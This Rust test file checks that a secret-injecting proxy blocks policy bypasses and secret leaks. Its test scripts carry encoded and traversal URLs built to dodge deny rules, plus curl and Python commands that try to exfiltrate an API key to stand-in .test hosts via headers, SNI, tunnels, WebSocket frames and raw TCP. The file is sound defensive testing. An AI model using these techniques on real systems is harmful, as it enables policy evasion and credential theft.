//! The per-call boundary under attack (issue 11): a request worded so that
//! the policy and the vendor would read it differently, a secret sent in
//! cleartext, and placeholders hidden where the proxy did not look (header
//! names, the method, plaintext to a whole-host allow, CONNECT tunnels,
//! WebSocket frames, raw TCP). Each attack is judged by what the fake
//! vendor actually received, and each alarm by its typed audit column.

use std::{os::unix::fs::PermissionsExt as _, path::PathBuf};

use enforcer_e2e::{Launch, files, world::VendorWorld};

/// The real key: it must reach the vendor only where the policy says.
const REAL: &str = "sk_live_REALKEY0123456789abcdefABCDEFghij";

fn key_file() -> PathBuf {
    let p = files::scratch_dir().join(format!("key-{}", std::process::id()));
    std::fs::write(&p, format!("{REAL}\n")).expect("write key");
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600)).expect("chmod key");
    p
}

fn secret(key: &std::path::Path) -> String {
    format!(
        r#"
[[secret]]
name = "VENDOR_KEY"
from = "file:{}"
hosts = ["api.vendor.test"]
header = "Authorization"
format = "Bearer {{}}"
"#,
        key.display()
    )
}

/// A fresh audit database for one test, and the rows of its alarms.
struct AuditDb(PathBuf);

impl AuditDb {
    fn new(name: &str) -> Self {
        let dir = files::scratch_dir().join(format!("{name}-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("dir");
        Self(dir.join("audit.db"))
    }

    fn alarms(&self, run_id: &str) -> Vec<(String, String)> {
        let c = rusqlite::Connection::open(&self.0).expect("audit db");
        let mut s = c
            .prepare("SELECT alarm, reason FROM events WHERE run_id = ?1 AND alarm IS NOT NULL ORDER BY id")
            .expect("query");
        s.query_map([run_id], |r| Ok((r.get(0)?, r.get(1)?)))
            .expect("rows")
            .map(|r| r.expect("row"))
            .collect()
    }
}

fn codes(stdout: &str) -> Vec<&str> {
    stdout.lines().filter(|l| l.len() == 3).collect()
}

/// The policy the security review attacked: deny, ask and a capped cost
/// rule under a catch-all allow.
const WORDING_POLICY: &str = r#"
[[host]]
name = "api.vendor.test"
spend_cap_usd = 50
  [[host.rule]]
  method = "*"
  path = "/v1/admin/**"
  action = "deny"
  [[host.rule]]
  method = "POST"
  path = "/v1/refunds"
  action = "ask"
  [[host.rule]]
  method = "POST"
  path = "/v1/payment_intents"
  action = "allow"
  cost = { form_field = "amount", divide_by = 100 }
  [[host.rule]]
  method = "*"
  path = "/v1/**"
  action = "allow"
"#;

#[test]
fn requests_worded_to_dodge_a_rule_never_reach_the_vendor() {
    for version in ["--http1.1", "--http2"] {
        let w = VendorWorld::new();
        let c = format!("curl -sS -m 20 -o /dev/null -w '%{{http_code}}\\n' {version}");
        let script = format!(
            r#"
{c} https://api.vendor.test/v1/admin%2Fusers
{c} -X POST https://api.vendor.test/v1/refunds%2F
{c} -X post https://api.vendor.test/v1/refunds
{c} -X post -d amount=99999999 https://api.vendor.test/v1/payment_intents
{c} https://api.vendor.test/v1/Admin/users
{c} -X POST 'https://api.vendor.test/v1/refunds;x=1'
{c} --path-as-is https://api.vendor.test/v1/x/../admin/users
{c} https://api.vendor.test/v1//admin/users
{c} -X POST -H 'X-HTTP-Method-Override: DELETE' https://api.vendor.test/v1/customers/cus_1
{c} https://api.vendor.test/v1/admin%252Fusers
{c} https://api.vendor.test/v1/customers/cus_AbC
"#
        );
        let out = w
            .launch(WORDING_POLICY, &["/bin/sh", "-c", &script])
            .flag("--approver")
            .flag("none")
            .run();
        out.assert_clean();
        let mut want = vec!["400"; 10];
        want.push("200");
        assert_eq!(codes(&out.stdout), want, "{version}: {out:?}");
        let seen: Vec<String> = w
            .vendor
            .seen()
            .iter()
            .map(|s| format!("{} {}", s.method, s.path))
            .collect();
        assert_eq!(
            seen,
            ["GET /v1/customers/cus_AbC"],
            "{version}: the vendor got an ambiguous request"
        );
        assert!(
            out.stderr.contains("ambiguous request refused"),
            "{}",
            out.stderr
        );
        assert!(!out.stderr.contains("$999999"), "{}", out.stderr);
    }
}

#[test]
fn a_secret_never_crosses_the_network_in_cleartext() {
    let w = VendorWorld::new();
    let key = key_file();
    let call =
        "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' -H \"Authorization: Bearer $VENDOR_KEY\"";
    let rules = "  [[host.rule]]\n  method = \"GET\"\n  path = \"/v1/**\"\n  action = \"allow\"\n";
    // A newcomer's first policy: no ports, so the key's host is TLS only.
    let first = format!(
        "{}\n[[host]]\nname = \"api.vendor.test\"\n{rules}",
        secret(&key)
    );
    let script =
        format!("{call} http://api.vendor.test/v1/plain; {call} https://api.vendor.test/v1/tls");
    let out = w.launch(&first, &["/bin/sh", "-c", &script]).run();
    out.assert_clean();
    assert_eq!(codes(&out.stdout), ["403", "200"], "{out:?}");
    // Port 80 listed: the request is refused before anything leaves.
    let both = format!(
        "{}\n[[host]]\nname = \"api.vendor.test\"\nports = [443, 80]\n{rules}",
        secret(&key)
    );
    let out = w.launch(&both, &["/bin/sh", "-c", &script]).run();
    out.assert_clean();
    assert_eq!(codes(&out.stdout), ["403", "200"], "{out:?}");
    assert!(out.stderr.contains("only sent over TLS"), "{}", out.stderr);
    assert!(out.stderr.contains("warning:"), "{}", out.stderr);
    let cleartext: Vec<_> = w.vendor.seen().into_iter().filter(|s| !s.tls).collect();
    assert!(
        cleartext.is_empty(),
        "plain HTTP reached the vendor: {cleartext:?}"
    );
    // Said explicitly, it is allowed (and warned about).
    let opted = format!(
        "{}\n[[host]]\nname = \"api.vendor.test\"\nports = [443, 80]\nallow_plaintext_secrets = true\n{rules}",
        secret(&key)
    );
    let out = w.launch(&opted, &["/bin/sh", "-c", &script]).run();
    out.assert_clean();
    assert_eq!(codes(&out.stdout), ["200", "200"], "{out:?}");
    assert!(out.stderr.contains("cleartext"), "{}", out.stderr);
    assert!(
        w.vendor.seen().iter().any(
            |s| !s.tls && s.authorization.as_deref() == Some(format!("Bearer {REAL}").as_str())
        )
    );
}

#[test]
fn placeholders_are_found_in_names_methods_plaintext_and_tunnels() {
    let w = VendorWorld::new();
    let key = key_file();
    let db = AuditDb::new("names");
    let policy = format!(
        r#"{}
[[host]]
name = "api.vendor.test"
  [[host.rule]]
  method = "GET"
  path = "/v1/**"
  action = "allow"

[[host]]
name = "upload.vendor.test"
  [[host.rule]]
  method = "*"
  path = "/**"
  action = "allow"

[[host]]
name = "open.vendor.test"
action = "allow"
"#,
        secret(&key)
    );
    let c = "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n'";
    let script = format!(
        r#"
K="$VENDOR_KEY"
{c} -H "X-$K: 1" https://upload.vendor.test/header-name
{c} -X "$K" https://upload.vendor.test/method
{c} --noproxy '*' -H "X-Key: $K" http://open.vendor.test/plain
{c} -p -x "$HTTP_PROXY" -H "X-Key: $K" http://open.vendor.test/tunnel
{c} http://open.vendor.test/clean
"#
    );
    let out = w
        .launch(&policy, &["/bin/sh", "-c", &script])
        .flag("--audit-db")
        .flag(&db.0)
        .run();
    out.assert_clean();
    assert_eq!(
        codes(&out.stdout),
        ["403", "403", "403", "403", "200"],
        "{out:?}"
    );
    for s in w.vendor.seen() {
        let hay = format!("{} {:?} {:?}", s.method, s.headers, s.path);
        assert!(
            !hay.contains("sk_live_"),
            "a placeholder reached the vendor: {hay}"
        );
    }
    assert!(w.vendor.seen().iter().any(|s| s.path == "/clean" && !s.tls));
    let alarms = db.alarms(out.run_id.as_deref().expect("run id"));
    assert_eq!(alarms.len(), 4, "{alarms:?}");
    assert!(
        alarms.iter().all(|(a, _)| a == "exfiltration"),
        "{alarms:?}"
    );
}

#[test]
fn websocket_frames_are_scanned_both_ways() {
    let w = VendorWorld::new();
    let key = key_file();
    let db = AuditDb::new("ws");
    let ws = files::ws_client();
    let policy = format!(
        r#"{}
[[host]]
name = "api.vendor.test"
  [[host.rule]]
  method = "GET"
  path = "/ws/**"
  action = "allow"

[[host]]
name = "upload.vendor.test"
  [[host.rule]]
  method = "GET"
  path = "/ws/**"
  action = "allow"
"#,
        secret(&key)
    );
    let ws = ws.display();
    let script = format!(
        r#"
K="$VENDOR_KEY"
{ws} wss://api.vendor.test/ws/auth -H "Authorization: Bearer $K"
echo ---
{ws} wss://upload.vendor.test/ws/echo hello "leak ${{K:0:12}}|${{K:12}} end"
"#
    );
    let out = w
        .launch(&policy, &["/bin/bash", "-c", &script])
        .flag("--audit-db")
        .flag(&db.0)
        .run();
    out.assert_clean();
    let (auth, echo) = out.stdout.split_once("---").expect("both parts ran");
    // The vendor sent the injected key back, split over frames: the agent
    // sees the placeholder.
    assert!(auth.contains("status 101"), "{out:?}");
    assert!(
        !out.stdout.contains(REAL),
        "the real key reached the agent: {out:?}"
    );
    assert!(
        !out.stdout.contains(&REAL[8..24]),
        "part of the key reached the agent: {out:?}"
    );
    assert!(auth.contains("msg Bearer sk_live_"), "{auth}");
    // The agent's frames: the clean message is echoed; the placeholder,
    // split across two frames, closes the connection before it is whole.
    assert!(echo.contains("msg hello"), "{echo}");
    assert!(!echo.contains("msg leak"), "{echo}");
    for s in w.vendor.seen() {
        let text = String::from_utf8_lossy(&s.body_sample);
        assert!(!text.contains("leak"), "the vendor got the frames: {text}");
        assert!(
            !s.headers
                .iter()
                .any(|(k, _)| k == "sec-websocket-extensions"),
            "compression was offered upstream: {:?}",
            s.headers
        );
    }
    let alarms = db.alarms(out.run_id.as_deref().expect("run id"));
    assert_eq!(alarms.len(), 1, "{alarms:?}");
    assert_eq!(alarms[0].0, "exfiltration");
    assert!(alarms[0].1.contains("WebSocket"), "{alarms:?}");
}

#[test]
fn a_placeholder_on_a_raw_tcp_connection_cuts_it() {
    let w = VendorWorld::new();
    let key = key_file();
    let db = AuditDb::new("tcp");
    let target = w.host.tcp4();
    let policy = format!(
        "{}\n[[host]]\nname = \"api.vendor.test\"\naction = \"allow\"\n\n[[tcp]]\nhost = \"{}\"\nport = {}\n",
        secret(&key),
        target.ip(),
        target.port()
    );
    let probe = files::probe();
    let script = format!(
        "{p} tcp-echo {target} hello; {p} tcp-echo {target} \"x $VENDOR_KEY\"",
        p = probe.display()
    );
    let out = Launch::new(&policy, &["/bin/sh", "-c", &script])
        .flag("--audit-db")
        .flag(&db.0)
        .run();
    out.assert_clean();
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert!(lines[0].starts_with("ok"), "{out:?}");
    assert!(
        lines[1].starts_with("err"),
        "the placeholder was echoed: {out:?}"
    );
    let alarms = db.alarms(out.run_id.as_deref().expect("run id"));
    assert_eq!(alarms.len(), 1, "{alarms:?}");
}

#[test]
fn placeholders_in_a_server_name_in_any_case_and_through_connect_to_raw_tcp_are_caught() {
    let w = VendorWorld::new();
    let key = key_file();
    let db = AuditDb::new("more");
    let target = w.host.tcp4();
    let policy = format!(
        r#"{}
[[host]]
name = "api.vendor.test"
  [[host.rule]]
  method = "GET"
  path = "/v1/**"
  action = "allow"

[[host]]
name = "upload.vendor.test"
  [[host.rule]]
  method = "*"
  path = "/**"
  action = "allow"

[[tcp]]
host = "{}"
port = {}
"#,
        secret(&key),
        target.ip(),
        target.port()
    );
    let ip = w.host.v4;
    let py = format!(
        r#"
import os, socket, sys
host, port = os.environ["HTTP_PROXY"].rsplit("/", 1)[-1].split(":")
def tunnel(text):
    s = socket.create_connection((host, int(port)), timeout=10)
    s.sendall(b"CONNECT {ip}:{port} HTTP/1.1\r\nHost: {ip}:{port}\r\n\r\n")
    head = s.recv(4096)
    if b" 200" not in head.split(b"\r\n")[0]:
        return "refused " + head.split(b"\r\n")[0].decode()
    s.sendall(text.encode() + b"\n")
    try:
        return "echo " + s.recv(4096).decode().strip()
    except Exception as e:
        return "cut " + type(e).__name__
print(tunnel("hello"))
print(tunnel("x " + os.environ["VENDOR_KEY"]))
"#,
        ip = target.ip(),
        port = target.port()
    );
    let script = format!(
        r#"
K="$VENDOR_KEY"
curl -sS -m 20 -o /dev/null -w '%{{http_code}}\n' --noproxy '*' --resolve "$K.vendor.test:443:{ip}" "https://$K.vendor.test/x" || true
curl -sS -m 20 -o /dev/null -w '%{{http_code}}\n' -H "X-Key: ${{K^^}}" https://upload.vendor.test/upper
/usr/bin/python3 -c '{py}'
"#,
        py = py.replace('\'', "'\"'\"'")
    );
    let out = w
        .launch(&policy, &["/bin/bash", "-c", &script])
        .flag("--audit-db")
        .flag(&db.0)
        .run();
    out.assert_clean();
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(lines[0], "000", "{out:?}");
    assert_eq!(lines.get(1), Some(&"403"), "{out:?}");
    assert!(
        lines.iter().any(|l| l.ends_with("hello")),
        "the clean tunnel works: {out:?}"
    );
    assert!(
        !out.stdout.contains("sk_live_"),
        "the placeholder was echoed: {out:?}"
    );
    let alarms = db.alarms(out.run_id.as_deref().expect("run id"));
    assert_eq!(
        alarms.len(),
        3,
        "SNI, upper case, raw TCP through CONNECT: {alarms:?}"
    );
}
